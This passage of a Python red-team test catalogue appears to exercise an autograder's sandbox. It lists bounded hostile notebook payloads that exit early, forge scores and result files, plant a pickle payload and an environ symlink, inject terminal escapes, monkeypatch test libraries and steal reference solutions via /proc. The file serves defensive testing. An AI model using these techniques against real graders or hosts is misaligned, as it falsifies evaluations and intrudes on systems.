"""The red-team catalogue: hostile notebooks (our own), one ``Case`` each, by attack class.

Every payload is bounded so that it cannot hurt the machine even if it ran unsandboxed:
- files are written only under the sandbox's work directory or to ``{MARK}*`` (a unique name in /tmp);
- processes are signalled only when they are provably this test's own: the sandbox's own harness
  (its pid recorded at import), or an ancestor whose command line holds ``{TOKEN}`` (the test's
  grader process ``tt_runner.py ... TOKEN``, or the local backend's zygote, whose bundle path lives
  in the test's private cache);
- caches are touched only when their path holds ``{TOKEN}`` (the test's private cache);
- network targets are only 127.0.0.1 and 203.0.113.0/24, with short timeouts;
- sleepers live at most 30 s; memory at most 2.5 GiB; forks at most 200; output at most ~60 MB;
  disk at most 200 MiB, in the work directory.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import tt_hostile as nb

# ---- check groups --------------------------------------------------------------------------------

EMB = ("emb_shape", "emb_lookup", "emb_params", "emb_index_error", "emb_xavier")
GRAD = ("grad_accumulate", "grad_sparse", "grad_batch")
PE = ("pe_broadcast", "pe_too_long", "pe_grad")
SIN = ("sin_pos0", "sin_values")
LAYER = ("layer_modes", "layer_sin_values", "layer_scale")
ALL = EMB + GRAD + PE + SIN + LAYER
NEEDS_EMBEDDING = EMB + GRAD + LAYER
CALLS_FORWARD = ("emb_shape", "emb_lookup", "emb_index_error", *GRAD, *LAYER)
# checks run two at a time: when grad_accumulate's child stops its harness, grad_sparse may be running
AFTER_GRAD_SPARSE = ALL[ALL.index("grad_sparse") + 1:]
NOT_FORWARD = tuple(c for c in ALL if c not in CALLS_FORWARD)


@dataclass(frozen=True)
class Ctx:
    """Per-test values filled into payloads."""

    token: str
    mark: str
    port: int
    victim: str

    def values(self) -> dict[str, str]:
        return {"TOKEN": self.token, "MARK": self.mark, "PORT": str(self.port), "VICTIM": self.victim}


Builder = Callable[[Ctx], "tuple[str, dict[str, Any] | str | bytes]"]


@dataclass(frozen=True)
class Case:
    """One hostile submission and what the grader must make of it.

    ``statuses`` maps a group of check ids to the statuses allowed for them (on top of the generic
    rule that no check may pass that the same implementation fails without the attack).
    ``message`` is a regex that the detail of some non-passed check must match.
    ``local_weakness`` documents a known hole of the local backend: the case is a strict xfail there.
    ``weakness`` is the same for every backend (a host-side flaw).
    ``forbidden`` is a regex that must match nowhere in the report (a leak's marker).
    """

    id: str
    snippet: str = ""
    base: str = "correct"
    build: Builder | None = None
    statuses: dict[tuple[str, ...], frozenset[str]] = field(default_factory=dict)
    message: str | None = None
    persist: bool = False
    render_check: bool = False
    may_refuse: bool = False
    max_seconds: float = 60.0
    runner_timeout: float = 120.0
    local_weakness: str | None = None
    root_only_weakness: bool = False
    weakness: str | None = None
    forbidden: str | None = None  # a regex that must match nowhere in the report


def S(*statuses: str) -> frozenset[str]:
    return frozenset(statuses)


def notebook_with(snippet: str, base: str = "correct", name: str = "submission.ipynb",
                  extra: Callable[[Ctx], list[dict[str, Any]]] | None = None) -> Builder:
    def build(ctx: Ctx) -> tuple[str, dict[str, Any]]:
        cells = extra(ctx) if extra else []
        return nb.fill(name, ctx.values()), nb.build(base, nb.fill(snippet, ctx.values()), extra_cells=cells)

    return build


# ---- helpers shared by payloads (pasted into the hooks cell; unused ones are dropped by extraction) --

HELPERS = r'''
def _host_pid():
    """The grader process running this sandbox (an ancestor), but only if it is this test's own grader."""
    pid = _CTX.get("host")
    for _ in range(4):
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            if b"tt_runner.py" in cmd and b"{TOKEN}" in cmd:
                return pid
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError, TypeError):
            return None
    return None


def _parent_if_ours():
    """The sandbox's parent process (a zygote, or the grader), only if its command line holds our token."""
    pid = _CTX.get("host")
    try:
        return pid if pid and b"{TOKEN}" in open(f"/proc/{pid}/cmdline", "rb").read() else None
    except OSError:
        return None


def _host_env(host):
    raw = open(f"/proc/{host}/environ", "rb").read().decode("utf-8", "replace")
    return dict(x.split("=", 1) for x in raw.split("\0") if "=" in x)


def _host_children(host):
    import os
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
            if int(fields[1]) == host:
                yield int(pid), open(f"/proc/{pid}/cmdline", "rb").read()
        except (OSError, ValueError, IndexError):
            continue


def _which_check():
    import sys
    f = sys._getframe(1)
    while f is not None:
        name = f.f_code.co_name
        if name.startswith("_") and name.endswith("_run") and "probes" in f.f_code.co_filename:
            return name[1:-4]
        f = f.f_back
    return None


def _module_from_source(src, name="stolen"):
    import types
    mod = types.ModuleType(name)
    lines = [l for l in src.splitlines() if not l.lstrip().startswith(("%", "!"))]
    exec(compile("\n".join(lines), name, "exec"), mod.__dict__)
    return mod


def _reference_grad(module, node, grad_output):
    """What a stolen reference Embedding computes for the same weights, ids and upstream gradient."""
    w = node.saved_tensors[0]
    emb = module.Embedding(*w.data.shape)
    for p in emb.parameters():
        p.data[...] = w.data
    out = emb(Tensor(np.asarray(node.indices.data)))
    out.backward(np.asarray(grad_output).copy())
    return np.asarray(emb.parameters()[0].grad, dtype=np.float64)
'''


def with_helpers(snippet: str) -> str:
    return HELPERS + "\n\n" + snippet


def stealing_at_import(finder_source: str, finder: str) -> str:
    """An attack that runs ``finder()`` while the module is defined and, if it found a reference
    implementation, answers every backward with the reference's gradient."""
    return with_helpers(finder_source + f"""

_FOUND = []


def _on_import():
    _FOUND.append({finder}())


def _on_backward(node, grad_output, grad):
    return _reference_grad(_FOUND[0], node, grad_output) if _FOUND and _FOUND[0] is not None else grad
""")


# ---- early exit ----------------------------------------------------------------------------------

EXIT_CASES = [
    Case("exit-sys-exit-at-import", r'''
def _on_import():
    import sys
    sys.exit(0)
''', statuses={NEEDS_EMBEDDING: S("error"), PE + SIN: S("passed")}, message=r"defining Embedding failed"),
    Case("exit-os-exit-at-import", r'''
def _on_import():
    import os
    os._exit(0)
''', statuses={ALL: S("crashed")}, message=r"sys\.exit or os\._exit"),
    Case("exit-keyboardinterrupt-at-import", r'''
def _on_import():
    raise KeyboardInterrupt
''', statuses={NEEDS_EMBEDDING: S("error"), PE + SIN: S("passed")}, message=r"KeyboardInterrupt"),
    Case("exit-sys-exit-in-forward", r'''
def _on_forward(emb, indices, out):
    import sys
    sys.exit(0)
''', statuses={CALLS_FORWARD: S("error"), NOT_FORWARD: S("passed")}, message=r"SystemExit"),
    Case("exit-os-exit-in-backward", r'''
def _on_backward(node, grad_output, grad):
    import os
    os._exit(0)
''', base="buggy", statuses={GRAD: S("crashed")}, message=r"exited with status 0"),
    Case("exit-baseexception-subclass-in-backward", r'''
class _Escape(BaseException):
    pass


def _on_backward(node, grad_output, grad):
    raise _Escape("not an Exception")
''', base="buggy", statuses={GRAD: S("error")}, message=r"_Escape"),
    Case("exit-abort-in-backward", r'''
def _on_backward(node, grad_output, grad):
    import os
    os.abort()
''', base="buggy", statuses={GRAD: S("crashed")}, message=r"signal 6"),
    # A check that SIGKILLs itself is reported as "oom": SIGKILL is what the OOM killer sends, but
    # it is also what any process can send. Either status scores 0.
    Case("exit-sigkill-self-in-backward", r'''
def _on_backward(node, grad_output, grad):
    import os, signal
    os.kill(os.getpid(), signal.SIGKILL)
''', base="buggy", statuses={GRAD: S("crashed", "oom")}),
]

# ---- forged output -------------------------------------------------------------------------------

FORGE_FILES = r'''
def _forge_all():
    """Records claiming 'ok' for every check, with guessed arrays, everywhere the harness might look."""
    import json, os
    job = json.load(open("job.json"))
    os.makedirs("out", exist_ok=True)
    facts = {"count": 1, "is_weight": True, "requires_grad": True, "numel": 0,
             "id_equal_vocab": "ValueError", "id_minus_one": "ValueError", "id_last_valid": "none",
             "too_long": "ValueError", "at_max": "none", "bogus_mode": "ValueError",
             "nonzero_rows_first": 1, "nonzero_rows_second": 2}
    for check in job["checks"]:
        cid, inputs = check["id"], check["inputs"]
        arrays = {}
        if cid.startswith("grad_"):
            v, d = inputs["vocab"], inputs["dim"]
            arrays = {"grad": np.zeros((v, d)), "seed_grad": np.array([[0, 0], [4, 6], [0, 0], [0, 0]], float),
                      "seed_grad_second": np.array([[0, 0], [1, 2], [0, 0], [3, 4]], float)}
        os.makedirs(f"out/{cid}", exist_ok=True)
        for name, a in arrays.items():
            np.save(f"out/{cid}/{name}.npy", a)
        record = {"check": cid, "status": "ok", "facts": facts, "arrays": sorted(arrays), "duration_ms": 1.0}
        for target in (f"out/{cid}.json", f"{cid}.json", f"out/{cid}.json.tmp"):
            with open(target, "w") as f:
                json.dump(record, f)
        status = f"out/{cid}.status.json"
        if os.path.exists(status):
            os.remove(status)
    with open("out/import.json.tmp", "w") as f:
        json.dump({"chunk_errors": [], "defined": ["Embedding"]}, f)
    for name in ("result.json", "results.json", "score.json", "grade.json", "out/result.json"):
        with open(name, "w") as f:
            json.dump({"score": 100, "max_score": 100, "status": "passed"}, f)


def _on_import():
    _forge_all()


def _on_backward(node, grad_output, grad):
    import os
    _forge_all()
    os._exit(0)          # leave no result of our own: only the forged one is on disk
'''

FORGE_NPY = r'''
class _Payload:
    """Unpickling this on the host would create the marker file."""
    def __reduce__(self):
        return (open, ("{MARK}_unpickled", "w"))


def _npy_v1(path, descr, shape, payload=b"", fortran=False):
    header = repr({"descr": descr, "fortran_order": fortran, "shape": shape}).encode()
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    with open(path, "wb") as f:
        f.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + payload)


def _forge_npy():
    import json, os
    for check, names in (("grad_accumulate", ("grad", "seed_grad")), ("grad_sparse", ("grad", "seed_grad_second")),
                         ("grad_batch", ("grad",))):
        d = f"out/{check}"
        os.makedirs(d, exist_ok=True)
        json.dump({"check": check, "status": "ok", "facts": {"nonzero_rows_first": 1, "nonzero_rows_second": 2},
                   "arrays": list(names), "duration_ms": 1.0}, open(f"out/{check}.json", "w"))
    a = "out/grad_accumulate/"
    np.save(a + "grad.npy", np.array([_Payload()] * 4, dtype=object), allow_pickle=True)
    np.save(a + "seed_grad.npy", np.full((4, 2), np.nan))
    s = "out/grad_sparse/"
    _npy_v1(s + "grad.npy", "[('a', '<f8'), ('b', '<f8')]", (4,), b"\0" * 64)
    _npy_v1(s + "seed_grad_second.npy", "<f8", (1 << 40, 2), b"\0" * 64)       # a huge claimed shape
    b = "out/grad_batch/"
    try:
        os.symlink("/proc/self/environ", b + "grad.npy")
    except OSError:
        pass


def _on_backward(node, grad_output, grad):
    import os
    _forge_npy()
    os._exit(0)
'''

FORGE_HOOKS = r'''
_KEEP = []


def _rewrite_results(*args):
    import glob, json, os
    for f in glob.glob("out/*.json"):
        if f.endswith("import.json"):
            continue
        try:
            record = json.load(open(f))
        except Exception:
            continue
        record.update(status="ok", error=None)
        record.setdefault("facts", {})
        record.setdefault("arrays", [])
        for key in ("signal", "exit_code"):
            record.pop(key, None)
        with open(f, "w") as fh:
            json.dump(record, fh)
    for f in glob.glob("out/*.status.json"):
        try:
            os.remove(f)
        except OSError:
            pass


class _Reaper:
    def __del__(self):
        _rewrite_results()


def _on_import():
    import atexit, signal, sys, threading, weakref
    atexit.register(_rewrite_results)
    sys.excepthook = _rewrite_results
    threading.excepthook = _rewrite_results
    sys.unraisablehook = _rewrite_results
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGXCPU, signal.SIGALRM):
        try:
            signal.signal(sig, _rewrite_results)
        except (OSError, ValueError):
            pass
    _KEEP.append(_Reaper())
    weakref.finalize(_Reaper(), _rewrite_results)


def _on_backward(node, grad_output, grad):
    raise RuntimeError("let an excepthook, finalizer or atexit rewrite the verdict")
'''

FORGE_FD = r'''
def _on_import():
    import os
    fd = os.open("out/emb_shape.json", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    os.dup2(fd, 1)
    os.dup2(fd, 2)
    os.write(1, b'{"check": "emb_shape", "status": "ok", "facts": {}, "arrays": []}')


def _on_backward(node, grad_output, grad):
    import os
    os.write(1, b'{"check": "grad_accumulate", "status": "ok", "facts": {}, "arrays": []}\n')
    devnull = os.open("/dev/null", os.O_WRONLY)
    os.dup2(devnull, 1)
    for fd in (0, 1, 2):
        try:
            os.close(fd)
        except OSError:
            pass
    return grad
'''

FORGE_PRINT = r'''
_FAKE = (
    "grad_accumulate  \u2714 passed  12/12\n"
    "submission.ipynb: 100/100 (16/16 checks)\n"
    '{"score": 100, "max_score": 100, "checks": [{"id": "grad_accumulate", "status": "passed", "score": 12}]}\n'
    "All tests passed! SCORE: 100/100\n"
)


def _on_import():
    import os, sys
    print(_FAKE)
    print(_FAKE, file=sys.stderr)
    os.write(1, _FAKE.encode())
    os.write(2, _FAKE.encode())


def _on_backward(node, grad_output, grad):
    import sys
    print(_FAKE)
    print(_FAKE, file=sys.stderr)
    sys.stdout.flush()
    return grad
'''

FORGE_ESCAPES = r'''
def _on_backward(node, grad_output, grad):
    raise RuntimeError(
        "\x1b[2J\x1b[H\x1b]8;;https://203.0.113.1/\x1b\\grad_accumulate  \u2714 passed  12/12\x1b]8;;\x1b\\"
        "\r\x1b[1A\x1b[32mSCORE 100/100\x1b[0m")
'''


def _forged_metadata(ctx: Ctx) -> tuple[str, dict[str, Any]]:
    """Stored outputs and metadata that claim every test passed, on a buggy implementation."""
    cells = nb.implementation_cells("buggy")
    passed = ["✅ Embedding passed!\n", "🎉 All module 11 tests passed!\n", "SCORE: 100/100\n"]
    for i, cell in enumerate(cells):
        if cell["cell_type"] != "code":
            continue
        cell["execution_count"] = i
        cell["metadata"] = {"nbgrader": {"grade": True, "grade_id": f"test-{i}", "locked": True, "points": 100,
                                         "solution": False, "score": 100, "checksum": "0" * 32},
                            "tags": ["passed", "graded"], "deletable": False, "editable": False}
        cell["outputs"] = [
            {"output_type": "stream", "name": "stdout", "text": passed},
            {"output_type": "execute_result", "execution_count": i, "metadata": {},
             "data": {"text/plain": ["{'score': 100, 'max_score': 100}"],
                      "application/json": {"score": 100, "max_score": 100, "status": "passed"}}},
            {"output_type": "display_data", "metadata": {},
             "data": {"text/html": ["<b>grad_accumulate: passed 12/12</b>"], "text/plain": ["passed"]}},
        ]
    cells.append(nb.code_cell("test_module()  # locked test cell", outputs=[
        {"output_type": "stream", "name": "stdout", "text": passed}], nbgrader={"grade": True, "points": 20}))
    notebook = nb.notebook(
        cells,
        kernelspec={"display_name": "Bash", "language": "bash", "name": "bash"},
        language_info={"name": "bash"},
        grader={"score": 100, "max_score": 100, "status": "passed", "official": True},
        nbgrader={"grade": True, "score": 100, "checks": {c: "passed" for c in ALL}},
    )
    return "submission.ipynb", notebook


# A result record of the student's own check, well-formed but for a duration of NaN or infinity:
# JSON has neither, so a report holding one would be stored as null and no longer load, and with it
# the feedback and exports of the whole class.
FORGE_NON_FINITE = r'''
def _on_table(table):
    import os, sys
    f, check = sys._getframe(1), None
    while f is not None and check is None:
        c = f.f_locals.get("check")
        check = c["id"] if isinstance(c, dict) and "id" in c else None
        f = f.f_back
    for name, value in (("sin_pos0", "NaN"), ("sin_values", "1e999")):
        if check == name:
            with open(f"out/{name}.json.x", "w") as out:
                out.write('{"schema": 1, "check": "%s", "status": "error", "duration_ms": %s, '
                          '"error": {"type": "E", "message": "m", "where": null}}' % (name, value))
            os.replace(f"out/{name}.json.x", f"out/{name}.json")
            os._exit(0)
    return table
'''

FORGED_CASES = [
    Case("forged-score-lines-on-stdout-and-stderr", with_helpers(FORGE_PRINT), base="buggy"),
    Case("forged-result-files-in-workdir", FORGE_FILES, base="buggy", statuses={GRAD: S("failed", "crashed")}),
    Case("forged-npy-pickle-nan-symlink-huge-header", FORGE_NPY, base="buggy",
         statuses={GRAD: S("failed", "crashed")}),
    Case("forged-atexit-excepthook-finalizer-rewriters", FORGE_HOOKS, base="buggy",
         statuses={GRAD: S("error", "failed")}),
    Case("forged-fd-redirection-and-closed-stdio", FORGE_FD, base="buggy"),
    Case("forged-notebook-outputs-and-metadata", build=_forged_metadata, base="buggy"),
    Case("forged-non-finite-duration-in-a-result", FORGE_NON_FINITE, statuses={SIN: S("crashed")}),
    Case("forged-terminal-escapes-in-feedback", FORGE_ESCAPES, base="buggy", render_check=True,
         build=notebook_with(FORGE_ESCAPES, "buggy", name="tt\x1b[2J\x1b[32mALL PASSED\x1b[0m.ipynb")),
]

# ---- monkeypatching ------------------------------------------------------------------------------

PATCH_NUMPY = r'''
def _on_import():
    always = lambda *a, **k: True
    for name in ("allclose", "array_equal", "array_equiv", "isclose", "isfinite", "all", "any"):
        setattr(np, name, always)
    for name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_array_almost_equal"):
        setattr(np.testing, name, lambda *a, **k: None)
'''

PATCH_BUILTINS = r'''
class _AlwaysEqual:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


def _on_import():
    import builtins, unittest
    real_isinstance = builtins.isinstance
    builtins.isinstance = lambda obj, cls: True if cls is AssertionError else real_isinstance(obj, cls)
    builtins.callable = lambda obj: True
    builtins.AssertionError = type("AssertionError", (Exception,), {})
    for name in ("assertEqual", "assertTrue", "assertAlmostEqual", "assertRaises", "assertIsNone"):
        setattr(unittest.TestCase, name, lambda *a, **k: None)
    try:
        import pytest
        pytest.approx = lambda *a, **k: _AlwaysEqual()
    except Exception:
        pass
    builtins.print = lambda *a, **k: None
'''

PATCH_JSON_HARNESS = r'''
def _on_import():
    import json, sys
    real_dump, real_dumps = json.dump, json.dumps

    def fix(obj):
        if isinstance(obj, dict) and "check" in obj:
            obj = dict(obj, status="ok", error=None)
            obj.setdefault("facts", {})
            obj.setdefault("arrays", [])
        return obj

    json.dump = lambda obj, fp, *a, **k: real_dump(fix(obj), fp, *a, **k)
    json.dumps = lambda obj, *a, **k: real_dumps(fix(obj), *a, **k)
    run = sys.modules.get("grader.harness.run")
    if run is not None:
        real_write = run.write_result
        run.write_result = lambda out, cid, record, arrays: real_write(out, cid, fix(record), arrays)
        run.describe_exception = lambda e: {"type": "Passed", "message": "all good", "where": None}
        run.execute_probe = (lambda real: lambda check, probe, ns: (
            lambda r: (fix(r[0]), r[1]))(real(check, probe, ns)))(run.execute_probe)
    for mod in (sys.modules.get("harness.npyio"), run):
        if mod is not None and hasattr(mod, "write_arrays"):
            mod.write_arrays = (lambda real: lambda d, arrays: real(d, {k: np.zeros_like(v) for k, v in arrays.items()}))(
                mod.write_arrays)


def _on_backward(node, grad_output, grad):
    raise RuntimeError("turned into 'ok' by the patched writers")
'''

PATCH_OS = r'''
def _on_import():
    import os
    os.path.exists = lambda p: True
    os.path.isfile = lambda p: True
    os.replace = lambda a, b, **k: None
    os.rename = lambda a, b, **k: None
    os.makedirs = lambda *a, **k: None
    os.remove = lambda *a, **k: None
    os.waitpid = lambda pid, options: (pid, 0)
    os.WIFSIGNALED = lambda status: False
    os.WEXITSTATUS = lambda status: 0
    os.WTERMSIG = lambda status: 0
    os.fork = lambda: 1
    os._exit = lambda code=0: None
    os.kill = lambda *a: None
    os.killpg = lambda *a: None
    os.setpgid = lambda *a: None


def _on_backward(node, grad_output, grad):
    import signal
    signal.raise_signal(signal.SIGKILL)
'''

PATCH_RANDOM = r'''
class _FixedRng:
    def uniform(self, low=0.0, high=1.0, size=None):
        return np.full(size, high) if size is not None else high

    def __getattr__(self, name):
        return lambda *a, **k: 0


def _on_import():
    np.random.seed = lambda *a, **k: None
    np.random.uniform = lambda low=0.0, high=1.0, size=None: np.full(size, high) if size is not None else high
    np.random.randint = lambda low, high=None, size=None, dtype=int: np.zeros(size, dtype=int)
    np.random.default_rng = lambda *a, **k: _FixedRng()
    np.random.random = lambda size=None: np.zeros(size)
'''

PATCH_PROBES = r'''
def _on_import():
    import sys
    common = sys.modules.get("harness.probes.common")
    emb = sys.modules.get("grader.modules.embeddings.probes")
    if common is not None:
        common.grad_of = lambda tensor, what: np.zeros(np.shape(getattr(tensor, "data", 0)))
        common.raised = lambda call, expected=ValueError: expected.__name__
    if emb is not None:
        emb._backward = lambda ns, weight, ids, upstream: np.zeros(np.shape(weight))

        def fake(ns, i):
            v, d = i.get("vocab", 4), i.get("dim", 2)
            return {"grad": np.ones((v, d)), "seed_grad": np.array([[0.0, 0], [4, 6], [0, 0], [0, 0]]),
                    "seed_grad_second": np.ones((4, 2)), "nonzero_rows_first": 1, "nonzero_rows_second": 2}

        for name, probe in emb.PROBES.items():
            if name.startswith("grad_"):
                object.__setattr__(probe, "run", fake)
'''

MONKEYPATCH_CASES = [
    Case("patch-numpy-comparisons", PATCH_NUMPY, base="buggy"),
    Case("patch-builtins-unittest-pytest", PATCH_BUILTINS, base="buggy"),
    Case("patch-json-and-harness-writers", PATCH_JSON_HARNESS, base="buggy", statuses={GRAD: S("failed", "error")}),
    Case("patch-os-functions-the-harness-uses", PATCH_OS, base="buggy", statuses={GRAD: S("crashed", "oom")}),
    Case("patch-np-random", PATCH_RANDOM, statuses={("emb_xavier",): S("failed", "error")}),
    Case("patch-probe-helpers-and-probes", PATCH_PROBES, base="buggy"),
]

# ---- lying return values -------------------------------------------------------------------------

LIE_SUBCLASS = r'''
class _Liar(np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array_function__(self, func, types, args, kwargs):
        return True

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.shape(inputs[0])) if ufunc is np.add else True

    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape)

    def __float__(self):
        return 0.0


def _on_backward(node, grad_output, grad):
    return np.asarray(grad).view(_Liar)
'''

LIE_ALWAYS_EQUAL = r'''
class _AlwaysEqual:
    shape = (4, 2)
    ndim = 2
    dtype = np.dtype("float64")

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array__(self, dtype=None, copy=None):
        raise TypeError("not telling")

    def __bool__(self):
        return True

    def __len__(self):
        return 0

    def __iter__(self):
        return iter(())

    def __add__(self, other):
        return self

    __radd__ = __iadd__ = __mul__ = __rmul__ = __sub__ = __rsub__ = __truediv__ = __add__


def _on_backward(node, grad_output, grad):
    return _AlwaysEqual()
'''

LIE_FAKE_SHAPE = r'''
class _FakeTensor:
    def __init__(self, shape):
        self.shape = tuple(shape)
        self.data = np.zeros((0,))
        self.requires_grad = True
        self.grad = None
        self.size = int(np.prod(self.shape))

    def backward(self, *a, **k):
        return None

    def __getitem__(self, key):
        return self

    def __add__(self, other):
        return self

    __radd__ = __mul__ = __rmul__ = __add__


def _on_forward(emb, indices, out):
    return _FakeTensor(out.shape)


def _on_table(table):
    return _FakeTensor(table.shape)
'''

LIE_NAN_EMPTY = r'''
def _on_backward(node, grad_output, grad):
    return np.full(np.shape(grad), np.nan)


def _on_table(table):
    data = np.array(table.data, dtype=np.float64)
    data[1:] = np.inf
    return Tensor(data)


def _on_forward(emb, indices, out):
    if np.ndim(indices.data) == 1:
        return Tensor(np.zeros((0, emb.embed_dim)))
    return out
'''

LIE_WEIRD_DATA = r'''
class _Weird:
    calls = [0]

    def __init__(self, shape):
        self.shape = shape

    @property
    def data(self):
        _Weird.calls[0] += 1
        kind = _Weird.calls[0] % 5
        if kind == 0:
            raise SystemExit(3)
        if kind == 1:
            loop = []
            loop.append(loop)
            return loop
        if kind == 2:
            return range(10 ** 12)          # numpy refuses at once: 8 TB will not be allocated
        if kind == 3:
            return "not numbers"
        return self

    def __getattr__(self, name):
        if name == "grad":
            raise KeyboardInterrupt
        raise AttributeError(name)


def _on_forward(emb, indices, out):
    return _Weird(out.shape)
'''

LYING_CASES = [
    Case("lie-ndarray-subclass-overriding-eq-and-array-function", LIE_SUBCLASS, base="buggy"),
    Case("lie-always-equal-object-as-gradient", LIE_ALWAYS_EQUAL, base="buggy",
         statuses={GRAD: S("error", "failed")}),
    Case("lie-fake-shape-empty-data", LIE_FAKE_SHAPE,
         statuses={("emb_shape", "emb_lookup", "sin_pos0", "sin_values"): S("failed", "error")}),
    Case("lie-nan-inf-and-empty-arrays", LIE_NAN_EMPTY, base="buggy",
         statuses={(*GRAD, "sin_values"): S("failed", "error"), ("emb_shape",): S("failed", "error")}),
    Case("lie-weird-data-property-baseexception-recursive-huge", LIE_WEIRD_DATA,
         statuses={("emb_shape", "emb_lookup"): S("failed", "error", "oom")}),
]

# ---- input tampering -----------------------------------------------------------------------------

TAMPER = r'''
def _on_backward(node, grad_output, grad):
    import json, sys
    try:
        np.asarray(grad_output)[...] = 0.0
    except Exception:
        pass
    node.saved_tensors[0].data[...] = 0.0
    f = sys._getframe(1)
    while f is not None:
        for value in list(f.f_locals.values()):
            if isinstance(value, dict) and "upstream" in value:
                value["upstream"][...] = 0.0
                value["weight"] = np.zeros_like(value["weight"])
                value["ids"] = np.zeros(3)
            elif isinstance(value, np.ndarray) and value.dtype.kind == "f" and value.flags.writeable:
                value[...] = 0.0
        f = f.f_back
    try:
        job = json.load(open("job.json"))
        for check in job["checks"]:
            check["inputs"] = {k: 0 for k in check["inputs"]}
        json.dump(job, open("job.json", "w"))
    except Exception:
        pass
    return np.zeros_like(grad)
'''

TAMPER_CASES = [
    Case("tamper-probe-inputs-weights-and-job-file", TAMPER, base="buggy"),
]

# ---- stealing answers ----------------------------------------------------------------------------

STEAL_FRAMES_GC = r'''
def _on_backward(node, grad_output, grad):
    import gc, sys
    candidates = []
    f = sys._getframe(1)
    while f is not None:
        for value in f.f_locals.values():
            if isinstance(value, np.ndarray) and value.shape == np.shape(grad) and value is not grad:
                candidates.append(value)
        f = f.f_back
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            for key in ("expected", "reference", "answer", "solution", "want"):
                v = obj.get(key) if key in obj else None
                if isinstance(v, np.ndarray) and v.shape == np.shape(grad):
                    candidates.append(v)
    for c in candidates:
        if np.isfinite(c).all() and not np.array_equal(c, grad):
            return np.array(c, dtype=np.float64)
    return grad
'''

STEAL_IMPORTS = stealing_at_import(r'''
_SEEN = []


class _Spy:
    def find_spec(self, name, path=None, target=None):
        _SEEN.append(name)
        return None


def _steal_by_import():
    import importlib, sys
    sys.meta_path.insert(0, _Spy())
    for name in ("embeddings", "reference", "solution", "reference.solution.embeddings", "solution.embeddings",
                 "tinytorch.core.embeddings", "tinytorch.text.embeddings", "tinytorch.nn", "expected", "answers",
                 "rubric", "rubrics", "grader.reference", "grader.modules.embeddings.reference.solution",
                 "grader.modules.embeddings.judge"):
        try:
            mod = importlib.import_module(name)
        except BaseException:
            continue
        if isinstance(getattr(mod, "Embedding", None), type):
            return mod
    try:
        import grader.modules.embeddings as unit
        return _module_from_source(open(unit.__path__[0] + "/reference/solution.py").read())
    except BaseException:
        pass
    for mod in list(sys.modules.values()):
        cls = getattr(mod, "Embedding", None)
        if isinstance(cls, type) and getattr(mod, "__name__", "") not in ("submission", "__main__"):
            return mod
    return None
''', "_steal_by_import")

STEAL_WALK = stealing_at_import(r'''
_SKIP = {"proc", "sys", "dev", "tmp", "run", "usr", "lib", "lib64", "bin", "sbin", "etc", "var", "boot", "snap",
         "node_modules", ".cache", "site-packages", ".pyenv", ".git"}


def _walk_for_solutions():
    """A bounded walk of the filesystem for anything that looks like a finished module 11."""
    import json, os, time
    deadline, seen = time.monotonic() + 3.0, 0
    here = os.getcwd()
    for top in ("/work", "/home", "/srv", "/opt", "/root", "/mnt", "/"):
        for dirpath, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in _SKIP][:200]
            seen += len(files)
            if time.monotonic() > deadline or seen > 200_000:
                return None
            if dirpath.startswith(here):
                continue
            for name in files:
                low = name.lower()
                if not (low.endswith((".py", ".ipynb")) and ("correct" in low or "solution" in low
                                                              or low == "embeddings.py")):
                    continue
                path = os.path.join(dirpath, name)
                try:
                    text = open(path, encoding="utf-8").read(2_000_000)
                    if low.endswith(".ipynb"):
                        text = "\n".join("".join(c["source"]) for c in json.loads(text)["cells"]
                                         if c["cell_type"] == "code")
                except Exception:
                    continue
                if "class Embedding" in text and "add.at" in text:
                    try:
                        return _module_from_source(text)
                    except BaseException:
                        continue
    return None
''', "_walk_for_solutions")

STEAL_PROC_ROOT = stealing_at_import(r'''
def _steal_through_proc_root():
    import glob, os
    host = _host_pid()
    if host is None:
        return None
    root = f"/proc/{host}/root"
    site = os.path.dirname(os.path.dirname(np.__file__))
    bases = [site, site + "/grader/_data"]
    for pth in glob.glob(site + "/*.pth"):
        try:
            bases += [line.strip() for line in open(pth) if line.startswith("/")]
        except OSError:
            pass
    try:
        bases.append(os.readlink(f"/proc/{host}/cwd"))
    except OSError:
        pass
    for base in bases:
        for rel in ("reference/solution/embeddings.py", "grader/_data/reference/solution/embeddings.py",
                    "grader/modules/embeddings/reference/solution.py"):
            path = root + os.path.join(base, rel)
            if os.path.isfile(path):
                return _module_from_source(open(path).read())
    return None
''', "_steal_through_proc_root")

STEAL_WORKER_HOME = with_helpers(r'''
_FOUND = []


def _steal_from_reference_worker():
    import json, os, time
    host = _host_pid()
    if host is None:
        return None
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        for pid, cmd in _host_children(host):
            try:
                cwd = os.readlink(f"/proc/{pid}/cwd")
                for name in os.listdir(f"/proc/{pid}/root{cwd}"):
                    if name.endswith(".json"):
                        data = json.load(open(f"/proc/{pid}/root{cwd}/{name}"))
                        source = data["chunks"][0]["source"]
                        if "class Embedding" in source:
                            return _module_from_source(source)
            except (OSError, ValueError, KeyError, IndexError, TypeError):
                continue
        time.sleep(0.02)
    return None


def _on_backward(node, grad_output, grad):
    if not _FOUND:
        _FOUND.append(_steal_from_reference_worker())
    return _reference_grad(_FOUND[0], node, grad_output) if _FOUND[0] is not None else grad
''')

STEAL_UNMOUNT = stealing_at_import(r'''
def _unmount_and_read():
